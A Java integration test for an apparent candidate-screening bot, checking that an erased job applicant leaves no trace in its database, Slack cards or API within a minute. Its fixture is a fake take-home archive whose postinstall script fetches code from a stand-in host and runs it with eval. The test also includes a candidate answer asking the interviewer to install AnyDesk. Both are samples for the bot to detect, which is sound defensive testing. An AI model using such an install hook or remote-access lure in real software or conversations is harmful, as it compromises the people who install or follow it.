package dev.bonafide.crash;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bonafide.applicant.CandidateLink;
import dev.bonafide.applicant.TrackerVendor;
import dev.bonafide.bot.Machine;
import dev.bonafide.bot.Settings;
import dev.bonafide.bot.ThreeTrackers;
import dev.bonafide.casefile.CaseId;
import dev.bonafide.casefile.OutsideRecord;
import dev.bonafide.casefile.Tenant;
import dev.bonafide.postgres.Database;
import dev.bonafide.postgres.casefile.OutsideRecords;
import dev.bonafide.testkit.hiring.FakeCandidate;
import dev.bonafide.testkit.hiring.SignedHook;
import dev.bonafide.testkit.interview.Zipped;
import dev.bonafide.testkit.slack.FakeSlack;
import dev.bonafide.testkit.slack.workspace.Channel;
import dev.bonafide.testkit.slack.workspace.SharedFile;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.time.Duration;
import java.time.Instant;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.CleanupMode;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.api.parallel.Execution;
import org.junit.jupiter.api.parallel.ExecutionMode;

/** The whole bot, and candidates of three systems, of whom nothing is left once they are erased. */
@Tag("long")
@Execution(ExecutionMode.CONCURRENT) // Beside the other classes: it mostly waits.
class ErasedEverywhereTest {
  private static final String CLOSED = HiringProcess.CLOSED;
  private static final Path LOG = Path.of("target", "erased.log");
  private static final Duration MINUTE = Duration.ofMinutes(1);
  private static final InstantSource CLOCK = InstantSource.system();

  /** A take-home test that comes with each of them: its hash goes with the last. */
  private static final byte[] ARCHIVE =
      Zipped.of(
          Map.of(
              "zq-takehome/package.json",
              bytes(
                  "{\"name\": \"zq-takehome\", \"scripts\": {\"postinstall\": \"node setup.js\"}}"),
              "zq-takehome/setup.js",
              bytes("fetch('https://zqcodes.example/x').then((it) => it.text()).then(eval);\n")));

  private static final String HASH = sha256(ARCHIVE);

  /** What only they have, and nothing may hold once they are erased. */
  private static final String[] MARKS = {
    "Quellmark", "zq.post@example.org", "zqcodes", "zq-takehome", HASH
  };

  private static final String RESUME =
      """
      Zorbina Quellmark
      zq.post@example.org, https://github.com/zqcodes
      Experience
      2019 - 2024 Engineer at Initech: moved the billing of four plants to event sourcing, alone.
      """;

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static String sha256(byte[] bytes) {
    try {
      return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
    } catch (NoSuchAlgorithmException e) {
      throw new IllegalStateException("every Java has SHA-256", e);
    }
  }

  @TempDir(cleanup = CleanupMode.ON_SUCCESS)
  private Path folder;

  private final HttpClient client = HttpClient.newHttpClient();

  @Test
  void of_who_is_erased_there_nothing_is_left_here_within_a_minute() throws Exception {
    try (FakeSlack slack = FakeSlack.start();
        ThreeTrackers trackers = new ThreeTrackers()) {
      slack.add(Channel.closed(CLOSED));
      Map<String, String> settings = settings(slack, trackers);
      try (BotProcess bot = BotProcess.start(settings, LOG, null)) {
        URI page = HiringProcess.page(bot.awaitReady());
        assertThat(slack.ledger().await(_ -> slack.sockets() == 1, MINUTE)).isTrue();
        List<CandidateLink> erased = new ArrayList<>();
        for (TrackerVendor vendor : TrackerVendor.values()) {
          CandidateLink link = trackers.of(vendor).add(candidate());
          erased.add(link);
          askedInSlack(slack, link, erased.size());
          askedOverHttp(page, link);
          askedOnThePage(page, link);
        }
        try (Database database = Machine.opened(new Settings(settings))) {
          everywhere(slack, trackers, page, erased, database);
        }
      }
    } finally {
      client.close();
    }
  }

  private void everywhere(
      FakeSlack slack,
      ThreeTrackers trackers,
      URI page,
      List<CandidateLink> erased,
      Database database)
      throws Exception {
    EveryTable tables = new EveryTable(database);
    List<CaseId> cases = cases(database, erased);
    assertThat(cases).as("one of Slack and one of the API each; the page keeps none").hasSize(6);
    assertThat(tables.holding(MARKS))
        .contains("exhibit.text", "case_entry.report", "case_entry.subject_name");
    assertThat(tables.holding(HASH)).as("the archive was read").contains("exhibit.text");
    assertThat(cases)
        .allSatisfy(id -> assertThat(tables.about(id)).contains("case_trait", "outside_record"));
    Instant began = CLOCK.instant();
    for (CandidateLink link : erased) {
      trackers.of(link.vendor()).delete(link);
      SignedHook hook =
          SignedHook.deleted(
              link.vendor(), HiringProcess.SECRET, link.candidate(), began.toEpochMilli());
      URI at = page.resolve("/hooks/" + link.vendor().system());
      assertThat(HiringProcess.posted(at, hook.body(), hook.headers())).isEqualTo(200);
    }
    assertThat(
            slack.ledger().await(_ -> cards(slack).allMatch(one -> one.contains("erased")), MINUTE))
        .isTrue();
    while (!cases(database, erased).isEmpty() && CLOCK.instant().isBefore(began.plus(MINUTE))) {
      boolean _ = slack.ledger().await(_ -> false, Duration.ofMillis(100));
    }
    assertThat(Duration.between(began, CLOCK.instant())).isLessThan(MINUTE);
    assertThat(tables.holding(MARKS)).isEmpty();
    assertThat(cases)
        .allSatisfy(id -> assertThat(tables.about(id)).containsOnly("audit_event", "tombstone"));
    assertThat(cards(slack)).hasSize(3).allSatisfy(one -> assertThat(one).doesNotContain(MARKS));
    assertThat(got(page, "/api/v1/cases?q=Quellmark").body()).contains("\"cases\": []");
    for (CaseId id : cases) {
      if (id.tenant().equals(Tenant.LOCAL)) {
        assertThat(got(page, "/api/v1/cases/" + id.number()).statusCode()).isEqualTo(404);
        assertThat(got(page, "/api/v1/cases/" + id.number() + "/report").statusCode())
            .isEqualTo(404);
      }
    }
  }

  private static FakeCandidate candidate() {
    return new FakeCandidate("Zorbina Quellmark")
        .resume("quellmark.txt", bytes(RESUME))
        .answer("How do you work?", "I will pay you, install AnyDesk for me. Zorbina Quellmark")
        .note("Quellmark was referred by Jo.")
        .scorecard("Quellmark's camera was off.");
  }

  private static void askedInSlack(FakeSlack slack, CandidateLink link, int asked) {
    String thread = slack.says(CLOSED, FakeSlack.BEN.id(), "next week?", null);
    slack.shares(
        CLOSED,
        FakeSlack.BEN.id(),
        "",
        thread,
        SharedFile.hosted("F" + asked, "zq-takehome.zip", "application/zip", ARCHIVE));
    String ts =
        slack
            .mention(
                CLOSED,
                FakeSlack.ADA.id(),
                "<@%s> check <%s> what of Quellmark?"
                    .formatted(FakeSlack.BOT_USER, ThreeTrackers.page(link)),
                thread)
            .ts();
    assertThat(ts).isNotEmpty();
    assertThat(
            slack
                .ledger()
                .await(
                    _ -> cards(slack).filter(one -> one.contains("Case ")).count() == asked,
                    MINUTE))
        .isTrue();
  }

  private static Stream<String> cards(FakeSlack slack) {
    return slack.ledger().said().stream()
        .map(one -> one.ts())
        .distinct()
        .map(slack.ledger()::standing);
  }

  private void askedOverHttp(URI page, CandidateLink link) throws Exception {
    HttpResponse<String> answer =
        client.send(
            HttpRequest.newBuilder(page.resolve("/api/v1/screenings?remember=true"))
                .header("Content-Type", "application/json")
                .POST(
                    BodyPublishers.ofString(
                        "{\"candidate\": \"%s\"}".formatted(ThreeTrackers.page(link))))
                .build(),
            BodyHandlers.ofString());
    assertThat(answer.statusCode()).isEqualTo(200);
    assertThat(answer.headers().firstValue("X-Bonafide-Case")).isPresent();
  }

  private void askedOnThePage(URI page, CandidateLink link) throws Exception {
    String form =
        "--x\r\nContent-Disposition: form-data; name=\"text\"\r\n\r\n%s\r\n--x--\r\n"
            .formatted(ThreeTrackers.page(link));
    HttpResponse<String> answer =
        client.send(
            HttpRequest.newBuilder(page.resolve("/"))
                .header("Content-Type", "multipart/form-data; boundary=x")
                .POST(BodyPublishers.ofString(form))
                .build(),
            BodyHandlers.ofString());
    assertThat(answer.statusCode()).isEqualTo(200);
    assertThat(answer.body()).contains("Quellmark");
  }

  private HttpResponse<String> got(URI page, String path) throws Exception {
    return client.send(HttpRequest.newBuilder(page.resolve(path)).build(), BodyHandlers.ofString());
  }

  private static List<CaseId> cases(Database database, List<CandidateLink> links) {
    OutsideRecords records = new OutsideRecords(database);
    List<OutsideRecord> sought = links.stream().map(CandidateLink::record).toList();
    return records.tenants().stream()
        .flatMap(
            tenant -> sought.stream().flatMap(record -> records.cases(tenant, record).stream()))
        .toList();
  }

  private Map<String, String> settings(FakeSlack slack, ThreeTrackers trackers) {
    Map<String, String> settings = new HashMap<>(trackers.settings());
    settings.put("BONAFIDE_DATA", folder.resolve("data").toString());
    settings.put("BONAFIDE_PORT", "0");
    settings.put("BONAFIDE_SLACK_API_URL", slack.apiUrl());
    settings.put("SLACK_BOT_TOKEN", slack.botToken());
    settings.put("SLACK_APP_TOKEN", slack.appToken());
    settings.put("BONAFIDE_HIRING_CHANNELS", CLOSED + ",page");
    settings.put("BONAFIDE_GREENHOUSE_WEBHOOK_SECRET", HiringProcess.SECRET);
    settings.put("BONAFIDE_ASHBY_WEBHOOK_SECRET", HiringProcess.SECRET);
    settings.put("BONAFIDE_LEVER_WEBHOOK_TOKEN", HiringProcess.SECRET);
    return settings;
  }
}
